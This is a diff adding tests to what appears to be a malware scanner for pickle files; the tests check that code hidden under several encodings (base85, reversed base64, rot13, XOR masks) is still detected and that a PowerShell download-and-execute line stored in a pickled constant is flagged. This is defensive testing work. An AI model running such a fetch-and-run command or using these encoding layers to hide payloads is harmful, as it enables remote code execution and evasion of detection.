@@ -1,5 +1,6 @@
 """Code and addresses that constants write in numbers, or turned around; and ordinary lists and texts."""
 
+import base64
 import codecs
 import pickle
 import random
@@ -84,3 +85,43 @@ def test_constants_that_are_turned_are_told_by_the_core_rules(tmp_path) -> None:
     told = {(finding.rule, finding.severity) for finding in report.findings}
     assert told == {("MA5459", "warning")}
     assert len(report.findings) == len(SPELLINGS)
+
+
+LAYERS = {
+    "base85": lambda data: base64.b85encode(data).decode(),
+    "ascii85": lambda data: base64.a85encode(data, adobe=True).decode(),
+    "base64 backwards": lambda data: base64.b64encode(data).decode()[::-1],
+    "rot13 of base64": lambda data: codecs.encode(base64.b64encode(data).decode(), "rot13"),
+    "UTF-16": lambda data: data.decode().encode("utf-16"),
+    "UTF-16, least first": lambda data: data.decode().encode("utf-16-le"),
+    "UTF-16, most first": lambda data: data.decode().encode("utf-16-be"),
+    "a mask": lambda data: bytes(byte ^ 0x21 for byte in data),
+    "a mask in base64": lambda data: base64.b64encode(bytes(byte ^ 0x21 for byte in data)).decode(),
+}
+
+
+@pytest.mark.parametrize("way", LAYERS)
+def test_code_under_other_encodings(way: str) -> None:
+    assert found(pickle.dumps({"a": LAYERS[way](CODE.encode())})) == ({"python"}, [])
+
+
+@pytest.mark.parametrize("way", LAYERS)
+def test_other_texts_under_these_encodings_are_nothing(way: str) -> None:
+    text = b"A sentence about import duties (and others) is no program at all."
+    assert found(pickle.dumps({"a": LAYERS[way](text)})) == (set(), [])
+
+
+def test_random_bytes_hold_nothing() -> None:
+    choose = random.Random(5)
+    data = [choose.randbytes(64) for _ in range(300)]
+    assert found(pickle.dumps([data, [one.hex() for one in data], [base64.b64encode(one) for one in data]])) == (
+        set(),
+        [],
+    )
+
+
+@pytest.mark.parametrize("size", [20, 0x37, 0x44, 0x55])
+def test_powershell_behind_the_length_of_a_constant(tmp_path, size: int) -> None:
+    command = "IEX (iwr x.y).DownloadString('a')"
+    (tmp_path / "m.pkl").write_bytes(pickle.dumps({"a": (command + " " * size)[: max(size, len(command))].encode()}))
+    assert ("MA1082", "warning") in {(one.rule, one.severity) for one in scan([str(tmp_path)], load_ruleset()).findings}
